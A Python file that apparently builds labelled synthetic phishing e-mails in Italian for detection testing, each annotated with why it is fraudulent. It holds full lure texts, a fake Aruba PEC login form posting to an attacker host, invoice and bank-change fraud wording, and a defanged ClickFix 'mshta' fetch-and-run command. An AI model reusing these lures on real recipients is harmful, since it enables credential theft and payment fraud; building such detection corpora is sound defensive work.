# -*- coding: utf-8 -*-
from data.common import *
from lib.banking import iban_cz

IBAN_17 = iban_cz('2010', '000000', '290018474')
IBAN_20 = iban_it('03268', '12800', '052874391220')


# ----------------------------------------------------------------- 17 -------
@message('attack', 17, 'it', 'fake-trademark-register-invoice',
         what='Fake trademark-register invoice: a "Registro Marchi e Brevetti Europeo" bills the Italian subsidiary EUR 1,890 for "publication" of its freshly filed trademark BERGWIESE (classes 29/30), PDF payment notice with a Czech IBAN; sent through Brevo.',
         why='Uses public data of a genuine filing to look official, but the sender is a private directory unrelated to UIBM/EUIPO/WIPO (admitted only in the PDF small print); payment equals accepting a paid "publication" offer; foreign IBAN; bulk ESP; pressure through a 10-day deadline.',
         att_note='PDF "avviso di pagamento" with IBAN ' + fmt_iban(IBAN_17))
def a17():
    rn, ra = S('it_acc')
    c = ctx('a17', '2026-10-22 11:09:51', 'CET', ra)
    inf = brevo(c)
    frm = 'avvisi@registro-marchi-europeo.eu'
    text = """Spett.le Example Group Italia S.r.l.
Via Emilia Ospizio 88
42122 Reggio Emilia (RE)

Oggetto: Avviso di pagamento - pubblicazione marchio n. 302026000418833 "BERGWIESE"

Con riferimento alla domanda di registrazione del marchio n. 302026000418833 "BERGWIESE", depositata presso l'Ufficio Italiano Brevetti e Marchi in data 14/09/2026 per le classi 29 e 30, Vi trasmettiamo in allegato l'avviso di pagamento relativo alla pubblicazione e all'iscrizione nel Registro Marchi e Brevetti Europeo.

L'importo di € 1.890,00 dovrà essere versato entro 10 giorni dalla data del presente avviso mediante bonifico bancario alle coordinate indicate nel documento allegato, riportando nella causale il numero di pratica RMBE-26-418833.

In mancanza del pagamento nei termini indicati la pratica verrà archiviata e la pubblicazione non potrà essere effettuata.

Distinti saluti

Registro Marchi e Brevetti Europeo
Ufficio Pubblicazioni
"""
    html = html_plainish(text, 'utf-8', 'Georgia, serif', '14px')
    p = pdf(c, [[(-15, 'REGISTRO MARCHI E BREVETTI EUROPEO'), (8, 'Ufficio Pubblicazioni - Praha / Milano'), (9, ''),
                 (10, 'Example Group Italia S.r.l.'), (10, 'Via Emilia Ospizio 88'), (10, '42122 Reggio Emilia (RE)'), (10, ''),
                 (-12, 'AVVISO DI PAGAMENTO N. RMBE-26-418833'), (10, ''),
                 (10, 'Marchio: BERGWIESE            Numero domanda: 302026000418833'),
                 (10, 'Data di deposito: 14/09/2026   Classi di Nizza: 29, 30'),
                 (10, 'Titolare: Example Group Italia S.r.l.'), (10, ''),
                 (10, 'Pubblicazione e iscrizione nel Registro (durata 10 anni)        EUR 1.890,00'), (10, ''),
                 (10, 'Beneficiario: RMBE Publishing s.r.o.'), (10, 'IBAN: ' + fmt_iban(IBAN_17) + '   BIC: FIOBCZPPXXX'),
                 (10, 'Causale: RMBE-26-418833'), (10, 'Scadenza: 10 giorni dalla data dell\'avviso'), (10, ''),
                 (7, 'Il Registro Marchi e Brevetti Europeo e un servizio privato di pubblicazione e non e collegato all\'UIBM, all\'EUIPO o all\'OMPI.'),
                 (7, 'Il pagamento del presente avviso costituisce accettazione dell\'offerta di pubblicazione alle condizioni generali disponibili sul sito.'),
                 (7, 'La registrazione del marchio presso l\'ufficio competente non dipende dal presente pagamento.')]],
            'Avviso di pagamento RMBE-26-418833', 'RMBE', 'Microsoft Word', 'Microsoft: Print To PDF')
    body = Multi('mixed', [Multi('alternative', [Text(text, charset='utf-8', cte='quoted-printable'),
                                                 Text(html, 'html', 'utf-8', 'quoted-printable')], inf.boundary()),
                           Bin(p, 'application/pdf', 'Avviso_pagamento_RMBE-26-418833.pdf', sep='; ')], inf.boundary())
    hs = [('From', addr('Registro Marchi e Brevetti Europeo', frm, quote=True)),
          ('To', ra),
          ('Subject', htext('Avviso di pagamento – marchio n. 302026000418833 "BERGWIESE"', 'UTF-8', 'B')),
          ('Date', rfc(c.t, 'UTC')),
          ('Message-Id', inf.msgid),
          ('Mime-Version', '1.0')]
    return assemble(c, inf, hs, body, 'bounces-%s@bounces.registro-marchi-europeo.eu' % c.digits(7), mime_pos=6, extra_pos=5)


# ----------------------------------------------------------------- 18 -------
@message('attack', 18, 'it', 'sdi-rejection-spid-phish',
         what='E-invoicing phish: "Agenzia delle Entrate" reports that an outgoing e-invoice was rejected by the Sistema di Interscambio (code 00305) and must be re-sent within 5 days after logging in with SPID/CIE via a link; sent from a DigitalOcean droplet without reverse DNS.',
         why='SdI delivers rejection notices through the transmission channel (PEC/SDICoop/FTP) and the "Fatture e Corrispettivi" portal, not by e-mail with a login link; sender domain fatturapa-agenziaentrate.it is a look-alike; link host ivaservizi-agenziaentrate.it-fatture.com is an attacker domain; sanction threat and deadline.')
def a18():
    rn, ra = S('it_acc')
    c = ctx('a18', '2026-10-29 08:31:14', 'CET', ra)
    frm = 'notifiche@fatturapa-agenziaentrate.it'
    inf = direct(c, 'mail.fatturapa-agenziaentrate.it', 'unknown', '164.92.187.46', msgid_style='phpmailer',
                 domain='fatturapa-agenziaentrate.it')
    url = 'https://ivaservizi-agenziaentrate.it-fatture.com/portale/web/guest/notifica?idSdi=14788231957&cf=02914480358'
    text = """Agenzia delle Entrate - Fatture e Corrispettivi

Notifica di scarto

Gentile contribuente,

La informiamo che il file fattura IT02914480358_a3F2K.xml trasmesso al Sistema di Interscambio è stato scartato.

Fattura n.: 2026/FE/0893 del 28/10/2026
Cessionario/committente: Salumeria & Formaggi Rossi
Identificativo SdI: 14788231957
Codice errore: 00305 - IdFiscaleIVA del cessionario/committente non valido

Per evitare l'applicazione delle sanzioni previste dall'art. 6 del D.Lgs. 471/1997, la fattura corretta deve essere ritrasmessa entro 5 giorni dalla data della presente notifica.

Può consultare il dettaglio della notifica nell'area riservata "Fatture e Corrispettivi" accedendo con SPID, CIE o CNS:
%s

Cordiali saluti
Agenzia delle Entrate
Servizio Fatture e Corrispettivi

Questo messaggio è stato generato automaticamente, si prega di non rispondere.
""" % url
    paras = [mime.esc(p).replace('\n', '<br>') for p in text.split('\n\n')[2:6]]
    html = brand_html('Notifica di scarto', paras, 'Accedi all\'area riservata', url,
                      'Agenzia delle Entrate - Servizio Fatture e Corrispettivi<br>Questo messaggio è stato generato automaticamente, si prega di non rispondere.',
                      color='#0066cc', logo_text='Agenzia delle Entrate', lang='it', charset='iso-8859-15',
                      after_button=[mime.esc(text.split('\n\n')[6]).replace('\n', '<br>')])
    body = Multi('alternative', [Text(text, charset='iso-8859-15', cte='quoted-printable', quoted=False),
                                 Text(html, 'html', 'iso-8859-15', 'quoted-printable', quoted=False)], php_boundary(c))
    hs = [('Date', rfc(c.t, 'CET')),
          ('To', ra),
          ('From', addr('Agenzia delle Entrate', frm)),
          ('Subject', 'Notifica di scarto - Identificativo SdI 14788231957'),
          ('Message-ID', inf.msgid),
          ('X-Mailer', 'PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)'),
          ('MIME-Version', '1.0')]
    return assemble(c, inf, hs, body, frm, mime_pos=7)


# ----------------------------------------------------------------- 19 -------
@message('attack', 19, 'it', 'fake-pec-court-notice-html-attachment',
         what='Fake PEC (certified e-mail) notice of a court order (decreto ingiuntivo) with an HTML attachment that imitates the Aruba PEC webmail login; sent through a hacked cPanel site.',
         why='Looks like a PEC envelope but arrives as ordinary mail from a compromised shared host (not a PEC provider, no daticert.xml/postacert.eml, no S/MIME signature); the attachment is a credential-harvesting login form posting to an attacker host (inert, no script); legal threat to create panic.',
         att_note='HTML attachment: fake "Aruba PEC Webmail" login form (no script)')
def a19():
    rn, ra = S('it_mgr')
    c = ctx('a19', '2026-11-03 10:14:59', 'CET', ra)
    frm = 'posta-certificata@legalmail-notifiche.it'
    inf = exim_cpanel(c, 'cp3.hostingsolutions-italia.it', '31.14.139.52', 'legalmai@cp3.hostingsolutions-italia.it',
                      script_path='/home/legalmai/public_html/wp-includes/class-phpmailer.php', domain='legalmail-notifiche.it')
    text = """Messaggio di posta certificata

Il giorno 03/11/2026 alle ore 10:14:22 (+0100) il messaggio
"Notifica ai sensi della L. 53/1994 - Decreto ingiuntivo n. 1187/2026" è stato inviato da "avv.marco.ruggeri@pec.ordineavvocatire.it"
indirizzato a:
example.italia@legalmail.it ("posta certificata")
Il messaggio originale è incluso in allegato.
Identificativo messaggio: opec21019.20261103101422.14871.321.1.64@pec.aruba.it

Per visualizzare l'atto notificato (decreto ingiuntivo provvisoriamente esecutivo, Tribunale di Reggio Emilia, R.G. 4471/2026) aprire l'allegato e accedere con le credenziali della casella di posta.
"""
    login = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Aruba PEC - Webmail</title>
<style>body{font-family:Arial,sans-serif;background:#f2f2f2}.b{width:380px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #ef7d00}
input{width:100%%;padding:9px;margin:6px 0 14px 0;border:1px solid #ccc}button{background:#ef7d00;color:#fff;border:0;padding:10px 24px}</style></head>
<body><div class="b"><h2>Webmail PEC</h2>
<p>Atto giudiziario notificato: <b>Decreto ingiuntivo n. 1187/2026</b><br>Accedi per visualizzare il documento.</p>
<form method="post" action="https://webmail-pec-aruba.legalmail-notifiche.it/ricevi.php">
<label>Indirizzo e-mail</label><input type="email" name="u" value="%s">
<label>Password</label><input type="password" name="p">
<button type="submit">Accedi</button></form>
<p style="font-size:11px;color:#777">Aruba PEC S.p.A. - Gestore accreditato AgID</p></div>
<!-- inert: original credential-harvesting script removed -->
</body></html>
""" % ra
    body = Multi('mixed', [Text(text, charset='iso-8859-1', cte='quoted-printable'),
                           Bin(login.encode('utf-8'), 'text/html; charset=utf-8', 'Notifica_Atto_1187-2026.html', sep='; ')], php_boundary(c))
    hs = [('Date', rfc(c.t, 'CET')),
          ('To', ra),
          ('From', addr('Per conto di: avv.marco.ruggeri@pec.ordineavvocatire.it', frm, quote=True)),
          ('Subject', 'POSTA CERTIFICATA: Notifica ai sensi della L. 53/1994 - Decreto ingiuntivo n. 1187/2026'),
          ('Message-ID', inf.msgid),
          ('X-Riferimento-Message-ID', '<opec21019.20261103101422.14871.321.1.64@pec.aruba.it>'),
          ('X-Trasporto', 'posta-certificata'),
          ('X-Mailer', 'PHPMailer 5.2.27 (https://github.com/PHPMailer/PHPMailer)'),
          ('MIME-Version', '1.0')]
    return assemble(c, inf, hs, body, 'legalmai@cp3.hostingsolutions-italia.it', extra_pos=0, mime_pos=9)


# ----------------------------------------------------------------- 20 -------
@message('attack', 20, 'it', 'thread-hijack-carrier-bank-change',
         what='Thread hijack + bank change from the genuinely compromised accounts-receivable mailbox of the carrier Ferretti Trasporti: a reply to the carrier\'s real payment reminder (business/17) asks to pay the overdue invoices to a "temporary" account because the main account is "frozen during a tax audit".',
         why='Sent from Ferretti\'s real Exchange Online tenant and quoting the genuine reminder, so only the content betrays it: new IBAN at a different bank, pretext of a frozen account, request for the remittance slip, and "the office cannot be reached by phone these days". Classic post-compromise invoice fraud; the genuine reminder (business/17) is its hard negative.')
def a20():
    rn, ra = S('it_acc')
    c = ctx('a20', '2026-11-04 16:22:37', 'CET', ra)
    frm = 'amministrazione@ferretti-trasporti.it'
    inf = m365(c, 'EUR')
    text = """Gentile Dott. Galli,

facciamo seguito al nostro sollecito del 27/10.

A causa di una verifica fiscale in corso, il nostro conto presso Intesa Sanpaolo è temporaneamente vincolato e i bonifici in entrata vengono respinti. Vi chiediamo pertanto di disporre il pagamento delle fatture scadute (FT 2026/3318, 2026/3342 e 2026/3391, totale € 14.327,60) sul conto di appoggio sotto indicato, sempre intestato alla nostra società:

Beneficiario: Ferretti Trasporti S.p.A.
Banca: Banca Sella S.p.A.
IBAN: %s

Vi preghiamo di inviarci la contabile non appena eseguito il bonifico, così da poter sbloccare i ritiri programmati per la prossima settimana.

Per motivi organizzativi in questi giorni l'ufficio amministrativo non è raggiungibile telefonicamente: per qualsiasi chiarimento rispondete pure a questa e-mail.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 14 - 42124 Reggio Emilia
P.IVA 01834560356

________________________________
Da: Amministrazione Ferretti Trasporti <amministrazione@ferretti-trasporti.it>
Inviato: martedì 27 ottobre 2026 09:41
A: Galli Niccolò <niccolo.galli@example.com>
Oggetto: %s

%s""" % (fmt_iban(IBAN_20), FERRETTI_REMINDER_SUBJECT, FERRETTI_REMINDER_TEXT)
    body = alt(c, Text(text, charset='Windows-1252', cte='quoted-printable'),
               Text(html_outlook(text, 'IT', 'Aptos', 'Windows-1252'), 'html', 'Windows-1252', 'quoted-printable'),
               boundary=inf.boundary())
    hs = [('From', 'Amministrazione Ferretti Trasporti <%s>' % frm),
          ('To', addr('Galli Niccolò', ra, 'iso-8859-1', 'Q')),
          ('Subject', 'R: ' + FERRETTI_REMINDER_SUBJECT),
          ('Thread-Topic', FERRETTI_REMINDER_SUBJECT),
          ('Thread-Index', thread_index(c, 1)),
          ('Date', rfc(c.t, 'UTC')),
          ('Message-ID', inf.msgid),
          ('References', FERRETTI_REMINDER_MSGID),
          ('In-Reply-To', FERRETTI_REMINDER_MSGID),
          ('Accept-Language', 'it-IT, en-US'),
          ('Content-Language', 'it-IT')]
    return assemble(c, inf, hs, body, frm)


# ----------------------------------------------------------------- 21 -------
@message('attack', 21, 'it', 'clickfix-fake-captcha-ddt',
         what='ClickFix: a fake "Ferretti Trasporti" delivery notice says a shipment is held for an incomplete address; the attached HTML "DDT" shows a fake reCAPTCHA that tells the user to press Win+R, paste and Enter (the command is an mshta one-liner, defanged with a .invalid host).',
         why='Social-engineers the user into running a command (mshta/PowerShell) from the clipboard - the ClickFix technique; look-alike domain ferretti-trasporti-spa.com via Mailgun (the carrier\'s real domain is ferretti-trasporti.it on Exchange Online, compare business/21); perishable goods "destroyed at the sender\'s cost" as pressure.',
         att_note='HTML attachment: fake CAPTCHA with Win+R instructions; command text is inert (host .invalid, no script)')
def a21():
    rn, ra = S('it_mgr')
    c = ctx('a21', '2026-11-26 14:48:26', 'CET', ra)
    dom = 'ferretti-trasporti-spa.com'
    inf = mailgun(c, 'mg.' + dom)
    frm = 'tracking@' + dom
    text = """Gentile cliente,

la spedizione n. 8841/2026 (2 bancali refrigerati, mittente Example Group eG - Kempten) è in giacenza presso il nostro hub di Reggio Emilia per indirizzo di consegna incompleto.

Per visualizzare il documento di trasporto (DDT) e riprogrammare la consegna entro 48 ore, apra il documento allegato e completi la verifica di sicurezza richiesta.

Trascorsi 5 giorni lavorativi la merce deperibile verrà smaltita a spese del mittente, come previsto dalle condizioni generali di trasporto.

Cordiali saluti
Ferretti Trasporti S.p.A.
Servizio Clienti - Tracking
"""
    cmd = 'mshta https://verify-ddt.invalid/8841 # Verifica reCAPTCHA ID: 8841-2026 - Non sono un robot'
    att = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>DDT 8841/2026 - Ferretti Trasporti</title>
<style>body{font-family:Roboto,Arial,sans-serif;background:#f9f9f9}.c{width:420px;margin:80px auto;background:#fff;border:1px solid #d3d3d3;padding:24px}
.k{font-family:Consolas,monospace;background:#f1f1f1;border:1px solid #ccc;padding:8px;font-size:12px;word-break:break-all}</style></head>
<body><div class="c">
<p><b>Ferretti Trasporti S.p.A.</b> - Documento di trasporto 8841/2026</p>
<p style="font-size:18px">&#9745; Verifica di non essere un robot</p>
<p>Per completare la verifica e visualizzare il DDT:</p>
<ol><li>Premi il tasto <b>Windows + R</b></li><li>Premi <b>CTRL + V</b></li><li>Premi <b>Invio</b></li></ol>
<p>Se il codice non è stato copiato automaticamente, copialo manualmente:</p>
<div class="k">%s</div>
<p style="font-size:11px;color:#777">reCAPTCHA - Privacy - Termini</p>
<!-- inert: clipboard-writing script of the original lure removed; host uses the reserved .invalid TLD -->
</div></body></html>
""" % mime.esc(cmd)
    html = html_plainish(text, 'utf-8')
    body = Multi('mixed', [alt(c, Text(text, charset='utf-8', cte='base64'), Text(html, 'html', 'utf-8', 'base64'), boundary=c.hex(32)),
                           Bin(att.encode('utf-8'), 'text/html; charset=utf-8', 'DDT_8841-2026_Ferretti.html', sep='; ')], inf.boundary())
    hs = [('Mime-Version', '1.0'),
          ('Subject', htext('Spedizione 8841/2026 in giacenza – azione richiesta', 'utf-8', 'Q')),
          ('From', addr('Ferretti Trasporti - Servizio Clienti', frm, quote=True)),
          ('To', ra),
          ('Date', rfc(c.t, 'UTC')),
          ('Message-Id', inf.msgid)]
    return assemble(c, inf, hs, body, 'bounce+%s.%s-%s=example.com@mg.%s' % (c.hex(6), c.hex(6), ra.split('@')[0], dom), mime_pos=1)
